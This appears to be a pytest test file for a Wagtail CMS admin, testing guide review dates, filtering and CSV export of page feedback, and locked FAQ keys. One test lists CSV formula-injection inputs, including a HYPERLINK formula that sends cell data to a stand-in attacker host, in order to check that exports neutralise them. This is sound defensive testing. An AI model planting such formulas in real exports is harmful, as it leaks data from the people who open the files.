"""What communications staff see in the Wagtail admin: guides due for review, page feedback from
families (filterable, downloadable), FAQ answers whose key cannot change."""

import datetime

import pytest
from django.urls import reverse
from django.utils import timezone

from cms.models import PageFeedback
from tests.factories.cms import FAQAnswerFactory, GuidePageFactory, PageFeedbackFactory
from tests.factories.portal import sign_in_with_mfa

pytestmark = pytest.mark.django_db


@pytest.fixture
def guides_by_review(guidance):
    today = timezone.localdate()
    return {
        "overdue": GuidePageFactory(
            parent=guidance, title="Personal budgets", last_reviewed=today - datetime.timedelta(days=400)
        ),
        "due_soon": GuidePageFactory(
            parent=guidance, title="School transport", last_reviewed=today - datetime.timedelta(days=350)
        ),
        "ok": GuidePageFactory(parent=guidance, title="Annual reviews", last_reviewed=today),
    }


def test_dashboard_lists_guides_due_for_review(client, editor, guides_by_review):
    sign_in_with_mfa(client, editor)
    body = client.get(reverse("wagtailadmin_home")).content.decode()

    panel = body[body.index("Guides due for review") :]
    assert "2 guide pages are overdue for review or due within a month" in panel
    assert "Personal budgets" in panel and "Overdue" in panel
    assert "School transport" in panel and "Due soon" in panel
    assert "Annual reviews" not in panel.split("See every guide")[0]
    edit_url = reverse("wagtailadmin_pages:edit", args=[guides_by_review["overdue"].pk])
    assert f'href="{edit_url}"' in panel


def test_guide_review_listing_sorted_by_review_due(client, editor, guides_by_review):
    sign_in_with_mfa(client, editor)
    response = client.get(reverse("guide_reviews:index"))

    assert response.status_code == 200
    body = response.content.decode()
    assert body.index("Personal budgets") < body.index("School transport") < body.index("Annual reviews")
    assert "Review due" in body and "Last reviewed" in body


def test_review_dates_are_shown_on_the_edit_form(client, editor, guides_by_review):
    sign_in_with_mfa(client, editor)
    body = client.get(reverse("wagtailadmin_pages:edit", args=[guides_by_review["ok"].pk])).content.decode()
    assert "Content review" in body and 'name="review_due"' in body and 'name="last_reviewed"' in body


def test_review_due_must_follow_the_last_review(guidance):
    guide = GuidePageFactory.build(
        title="Bad dates",
        slug="bad-dates",
        last_reviewed=datetime.date(2026, 1, 10),
        review_due=datetime.date(2026, 1, 1),
    )
    with pytest.raises(Exception, match="must be after the last review date"):
        guide.clean()


@pytest.fixture
def feedback(guide, guidance):
    other = GuidePageFactory(parent=guidance, title="Complaints")
    now = timezone.now()
    rows = [
        PageFeedbackFactory(page=guide, useful=False, comment="Could not find the appeal deadline"),
        PageFeedbackFactory(page=guide, useful=True),
        PageFeedbackFactory(page=other, useful=True, comment="Clear"),
    ]
    PageFeedback.objects.filter(pk=rows[2].pk).update(created=now - datetime.timedelta(days=40))
    return rows


def test_editors_see_feedback_filtered_by_page_and_date(client, editor, feedback, guide):
    sign_in_with_mfa(client, editor)
    url = reverse("page_feedback:index")

    everything = client.get(url)
    by_page = client.get(url, {"page": guide.pk})
    week_ago = timezone.localdate() - datetime.timedelta(days=7)
    recent = client.get(url, {"created_from": week_ago.isoformat()})

    assert everything.status_code == 200
    assert "Could not find the appeal deadline" in everything.content.decode()
    assert len(everything.context["object_list"]) == 3
    assert {f.page_id for f in by_page.context["object_list"]} == {guide.pk}
    assert len(recent.context["object_list"]) == 2


def test_feedback_downloads_as_csv_for_the_yearly_report(client, editor, feedback):
    sign_in_with_mfa(client, editor)
    response = client.get(reverse("page_feedback:index"), {"export": "csv"})

    assert response.status_code == 200
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    content = raw.decode()
    lines = content.strip().splitlines()
    assert lines[0].split(",") == ["Received", "Page", "Address", "Useful", "Comment"]
    assert len(lines) == 4
    assert "Could not find the appeal deadline" in content


@pytest.mark.parametrize(
    "comment",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_feedback_csv_never_carries_a_formula(client, editor, guide, comment):
    import csv
    import io

    PageFeedbackFactory(page=guide, useful=False, comment=comment)
    sign_in_with_mfa(client, editor)
    response = client.get(reverse("page_feedback:index"), {"export": "csv"})
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(raw.decode())))
    cell = rows[1][4]
    assert cell == "'" + comment  # shown as text by Excel and LibreOffice, the words kept
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_nobody_adds_or_rewrites_feedback_in_the_admin(client, moderator, feedback):
    sign_in_with_mfa(client, moderator)
    assert client.get(reverse("page_feedback:add")).status_code in (302, 403)
    assert client.get(reverse("page_feedback:edit", args=[feedback[0].pk])).status_code in (302, 403)
    assert client.get(reverse("page_feedback:inspect", args=[feedback[0].pk])).status_code == 200


def test_faq_key_is_fixed_once_the_answer_exists(client, editor, guide):
    faq = FAQAnswerFactory(key="annual_review", guide=guide)
    sign_in_with_mfa(client, editor)
    response = client.get(reverse("wagtailsnippets_cms_faqanswer:edit", args=[faq.pk]))
    assert response.status_code == 200
    form = response.context["form"]
    assert form.fields["key"].disabled
    add = client.get(reverse("wagtailsnippets_cms_faqanswer:add"))
    assert not add.context["form"].fields["key"].disabled


def test_an_editor_edit_of_an_faq_answer_waits_for_approval_and_cannot_change_the_key(
    client, editor, guide, bot_headers
):
    from wagtail.test.utils.form_data import querydict_from_html

    faq = FAQAnswerFactory(key="annual_review", answer="Live answer.", guide=guide)
    sign_in_with_mfa(client, editor)
    url = reverse("wagtailsnippets_cms_faqanswer:edit", args=[faq.pk])
    page = client.get(url).content.decode()
    data = querydict_from_html(page, form_id="w-editor-form")
    data["answer"] = "Edited answer."
    data["key"] = "tampered_key"
    data["action-submit"] = "Submit to Moderators approval"

    response = client.post(url, data)

    assert response.status_code == 302
    faq.refresh_from_db()
    assert faq.key == "annual_review" and faq.answer == "Live answer."
    assert faq.latest_revision.content["answer"] == "Edited answer."
    assert faq.current_workflow_state is not None
    bot = client.get("/internal/bot/faq/annual_review/", **bot_headers).json()
    assert bot["answer"] == "Live answer."


def test_the_admin_sends_nothing_to_gravatar(client, editor):
    sign_in_with_mfa(client, editor)
    html = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "gravatar" not in html.lower()
    assert "default-user-avatar" in html or "avatar" in html
